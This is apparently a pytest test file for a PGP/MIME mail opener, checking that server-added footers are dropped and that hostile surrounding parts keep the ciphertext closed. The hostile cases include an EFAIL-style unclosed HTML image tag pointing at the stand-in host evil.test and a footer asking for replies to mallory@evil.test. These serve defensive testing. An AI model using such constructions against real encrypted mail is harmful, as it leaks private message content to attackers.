"""Servers that take a sealed mail apart on its way: two exact shapes are read, and nothing they added is."""

from collections.abc import Callable
from datetime import datetime

import pytest

from pgp.confirm import confirm
from pgp.keyring import Keyring
from pgp.open import open_mail
from pgp.opened import Opened, Protection
from tests.mails import encrypted_part, mail, mailbox
from tests.people import People, Person
from tests.pgp.packets import digest_of, octets_of
from tests.pgp.test_open import knows, words

Opens = Callable[[bytes], Opened]
SECRET = b"where the source lives"
FOOTER = b'Content-Type: text/plain; charset="UTF-8"\r\nContent-Disposition: inline\r\n\r\n\r\n-- \r\nMERIDIAN LTD\r\n'


@pytest.fixture
def opens(people: People, keyring: Keyring, now: datetime) -> Opens:
    return lambda raw: open_mail(raw, keyring, knows(people.reporter, people.handler), now)


@pytest.fixture
def sealed(people: People) -> bytes:
    head = b'From: samir@press.test\r\nSubject: inside\r\nContent-Type: text/plain; hp="cipher"\r\n\r\n'
    return people.reporter.seals(head + SECRET, people.desk)


def mixed(frm: Person, *parts: bytes, kind: str = "multipart/mixed", more: str = "") -> bytes:
    head = f"From: {mailbox(frm)}\r\nTo: help@desk.test\r\nSubject: ...\r\nMIME-Version: 1.0\r\n{more}"
    head += f'Content-Type: {kind}; boundary="outer"\r\n\r\n'
    return head.encode() + b"".join(b"--outer\r\n" + part + b"\r\n" for part in parts) + b"--outer--\r\n"


def without_the_word_multipart(sealed: bytes) -> tuple[bytes, bytes]:
    """The two parts of PGP/MIME without what holds them together."""
    _, control, data, _ = encrypted_part(sealed, boundary="e").split(b"--e")
    return control.removeprefix(b"\r\n").removesuffix(b"\r\n"), data.removeprefix(b"\r\n").removesuffix(b"\r\n")


FOOTERS = {
    "as seen": FOOTER,
    "empty": b"Content-Type: text/plain\r\n\r\n\r\n",
    "no kind": b"\r\n-- \r\nMERIDIAN LTD\r\n",
    "quoted": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n--=20\r\nMERIDIAN=\r\n",
    "base64": b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nCi0tIAptZXJpZGlhbgo=\r\n",
}


@pytest.mark.parametrize("footer", FOOTERS.values(), ids=FOOTERS)
def test_a_footer_that_the_senders_server_hung_on_is_dropped(
    people: People, opens: Opens, sealed: bytes, footer: bytes
) -> None:
    opened = opens(mixed(people.reporter, footer, encrypted_part(sealed)))
    assert opened.protection is Protection.SEALED and opened.whole and opened.signer == people.reporter.fingerprint
    assert opened.reasons == ("rewritten_on_the_way",) and opened.sealed_parts == ()
    assert words(opened.mail) == ("inside", SECRET.decode()) and b"meridian" not in opened.mail.lower()
    assert opened.ciphertext_digest == digest_of(octets_of(sealed))


@pytest.mark.parametrize("text", [b"", b"Empty Message", b"Empty Message\r\n"])
def test_the_parts_side_by_side(people: People, opens: Opens, sealed: bytes, text: bytes) -> None:
    control, data = without_the_word_multipart(sealed)
    front = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + text
    opened = opens(mixed(people.reporter, front, control, data))
    assert opened.signer == people.reporter.fingerprint and opened.reasons == ("rewritten_on_the_way",)
    assert words(opened.mail) == ("inside", SECRET.decode())
    assert opens(mixed(people.reporter, front + b" #close", control, data)).protection is Protection.PLAIN
    assert opens(mixed(people.reporter, front, data, control)).protection is Protection.PLAIN


def test_a_handlers_command_through_such_a_server_is_theirs(people: People, opens: Opens, now: datetime) -> None:
    raw = mail(people.handler, people.desk, "#close", sealed_by=people.handler)
    part = raw[raw.index(b"Content-Type: multipart/encrypted") :]
    opened = opens(mixed(people.handler, FOOTER, part))
    assert opened.signer == people.handler.fingerprint and confirm(opened, people.handler.certificate, now)


def hostile(part: bytes, sealed: bytes) -> dict[str, list[bytes]]:
    html = b"Content-Type: text/html\r\n\r\n<img src='http://evil.test/"
    file = b'Content-Type: text/plain\r\nContent-Disposition: attachment; filename="x"\r\n\r\n-- \r\nx'
    control, data = without_the_word_multipart(sealed)
    return {
        "words without a mark": [b"\r\nPlease send me back what you read here:\r\n", part],
        "words above the mark": [b"\r\nhello\r\n-- \r\nMERIDIAN\r\n", part],
        "html": [html, part],
        "a file": [file, part],
        "two dispositions": [b"Content-Disposition: inline\r\nContent-Disposition: inline\r\n\r\n-- \r\nx", part],
        "too long": [b"\r\n-- \r\n" + b"x" * 2100, part],
        "behind": [part, FOOTER],
        "three": [FOOTER, part, FOOTER],
        "around": [FOOTER, part, html],
        "two sealed": [FOOTER, part, part],
        "no text": [part],
        "two sealed and no text": [part, part],
        "odd lines": [b"Content-Type: text/plain\r\nno field\r\n\r\n-- \r\nx", part],
        "odd lines below": [FOOTER, b"no field\r\n" + part],
        "deeper": [FOOTER, b"Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\n" + part + b"\r\n--d--"],
        "a forwarded mail": [FOOTER, b"Content-Type: message/rfc822\r\n\r\nFrom: x@y.test\r\n" + part],
        "three parts inside": [FOOTER, part.replace(b"\r\n--inner--", b"\r\n--inner\r\n\r\nx\r\n--inner--")],
        "another control part": [FOOTER, part.replace(b"Version: 1", b"Version: 1\r\nx")],
        "armour as text": [FOOTER, b"Content-Type: text/plain\r\n\r\n" + sealed],
        "text in pieces": [b"Content-Type: multipart/mixed; boundary=d\r\n\r\n--d\r\n\r\n-- \r\n--d--", part],
        "bare control": [FOOTER, control, data],
    }


CASES = list(hostile(encrypted_part(b"x", boundary="inner"), b"x"))


@pytest.mark.parametrize("case", CASES)
def test_ora_01_whatever_else_stands_beside_ciphertext_leaves_it_closed(
    people: People, opens: Opens, sealed: bytes, case: str
) -> None:
    parts = hostile(encrypted_part(sealed, boundary="inner"), sealed)[case]
    opened = opens(mixed(people.mallory, *parts))
    assert opened.protection is Protection.PLAIN and not opened.whole and opened.signer is None
    assert SECRET not in opened.mail and SECRET not in opened.inner and "rewritten_on_the_way" not in opened.reasons


@pytest.mark.parametrize("kind", ["multipart/alternative", "multipart/related", "multipart/report", "multipart/signed"])
def test_ora_01_only_mixed_is_what_such_servers_make(people: People, opens: Opens, sealed: bytes, kind: str) -> None:
    opened = opens(mixed(people.mallory, FOOTER, encrypted_part(sealed), kind=kind))
    assert opened.protection is Protection.PLAIN and SECRET not in opened.mail


def test_ora_01_what_mallory_hangs_on_says_nothing_to_anybody(people: People, opens: Opens, sealed: bytes) -> None:
    """She can send captured ciphertext again as it is; behind a footer she gains no word beside it."""
    alone = opens(mixed(people.mallory, b"\r\n", encrypted_part(sealed)))
    footer = b"\r\n-- \r\nPlease answer to mallory@evil.test and quote all of it\r\n"
    opened = opens(mixed(people.mallory, footer, encrypted_part(sealed)))
    assert opened.signer is None and opened.reasons == ("rewritten_on_the_way", "from_differs")
    assert opened.mail == alone.mail and opened.ciphertext_digest == alone.ciphertext_digest


def test_what_cannot_be_opened_behind_a_footer(people: People, opens: Opens) -> None:
    part = encrypted_part(people.reporter.seals(b"x", people.lab))
    opened = opens(mixed(people.reporter, FOOTER, part))
    assert opened.protection is Protection.UNREADABLE and opened.reasons[0] == "not_for_our_key" and opened.cannot_open
